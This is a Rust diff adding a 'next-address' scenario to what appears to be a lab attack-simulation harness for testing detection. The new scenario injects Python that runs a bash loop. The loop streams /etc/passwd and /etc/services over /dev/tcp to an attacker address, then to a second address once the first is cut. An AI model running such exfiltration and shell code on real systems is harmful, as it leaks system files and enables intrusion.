@@ -5,6 +5,7 @@
 
 use std::{
     fmt,
+    net::Ipv4Addr,
     str::FromStr,
     thread,
     time::{Duration, SystemTime, UNIX_EPOCH},
@@ -24,6 +25,7 @@ const SHELL_TEXT: &str =
     "id\nuname -a\nwhile cat /etc/passwd /etc/services; do sleep 0.05; done\nexit\n";
 const SHELL_PORT: u16 = 4444;
 const DROP_PORT: u16 = 4443;
+const NEXT_PORT: u16 = 4445;
 /// 200 MB and a little more.
 const EXFILTRATED_MIB: u32 = 200;
 const SCANNED_PORTS: u32 = 2_000;
@@ -42,6 +44,9 @@ pub enum Attack {
     DroppedShell,
     /// A shell that runs from memory connects out.
     MemoryShell,
+    /// A shell under the web service leaks to one address of the attacker's, and once that is cut to the
+    /// next. What is told is the second's.
+    NextAddress,
     /// 200 MiB from the web service to a new peer.
     Exfiltrate,
     /// A UDP flood from the attacker at the service's closed ports.
@@ -77,11 +82,12 @@ pub struct Outcome {
 }
 
 impl Attack {
-    pub const ALL: [Self; 10] = [
+    pub const ALL: [Self; 11] = [
         Self::CopyShell,
         Self::ReverseShell,
         Self::DroppedShell,
         Self::MemoryShell,
+        Self::NextAddress,
         Self::Exfiltrate,
         Self::Flood,
         Self::ScanIn,
@@ -96,6 +102,7 @@ impl Attack {
             Self::ReverseShell => "reverse-shell",
             Self::DroppedShell => "dropped-shell",
             Self::MemoryShell => "memory-shell",
+            Self::NextAddress => "next-address",
             Self::Exfiltrate => "exfiltrate",
             Self::Flood => "flood",
             Self::ScanIn => "scan-in",
@@ -108,6 +115,11 @@ impl Attack {
     /// Nothing of the host's has a part in it: packets come, from addresses that can be forged.
     pub fn comes_from_outside(self) -> bool {
         matches!(self, Self::Flood | Self::ScanIn)
+    }
+
+    /// It is denied once before what is told of it.
+    pub fn comes_back(self) -> bool {
+        self == Self::NextAddress
     }
 
     /// Attacks once. `limit` bounds what has no end of its own: shells and the flood.
@@ -124,6 +136,7 @@ impl Attack {
                 let code = to_attacker(include_str!("python/memory_shell.py"), SHELL_PORT);
                 shell_from(lab, &carried(via, &code), limit)
             }
+            Self::NextAddress => next_address(lab, via, limit),
             Self::Exfiltrate => {
                 let recorder = Recorder::listen(lab, DROP_PORT, END_LIMIT, "")?;
                 let started_ns = now_ns();
@@ -189,6 +202,25 @@ fn shell_from(lab: &Lab, code: &str, limit: Duration) -> Result<Outcome> {
     let started_ns = now_ns();
     inject(lab, code)?;
     finish(started_ns, recorder)
+}
+
+/// One process calls both: the second while its entry for the first stands, which it waits for.
+fn next_address(lab: &Lab, via: Via, limit: Duration) -> Result<Outcome> {
+    let next = Ipv4Addr::from_bits(Site::Attacker.ipv4().to_bits() + 1);
+    let mut address = lab.command(Site::Attacker, "attacker", &User::ROOT, "/bin/sh")?;
+    address.args(["-c", &format!("ip addr add {next}/24 dev eth0 2>/dev/null; true")]);
+    run(address)?;
+    let leak = |peer: Ipv4Addr, port| {
+        format!("while cat /etc/passwd /etc/services; do sleep .05; done > /dev/tcp/{peer}/{port}")
+    };
+    let shell = format!("{}; {}", leak(Site::Attacker.ipv4(), SHELL_PORT), leak(next, NEXT_PORT));
+    let code = format!("import subprocess\nsubprocess.run(['bash', '-c', {shell:?}])\n");
+    let first = Recorder::listen(lab, SHELL_PORT, limit, "")?;
+    let second = Recorder::listen(lab, NEXT_PORT, 2 * limit, "")?;
+    let started_ns = now_ns();
+    inject(lab, &carried(via, &code))?;
+    first.finish()?;
+    finish(started_ns, second)
 }
 
 fn to_attacker(code: &str, port: u16) -> String {
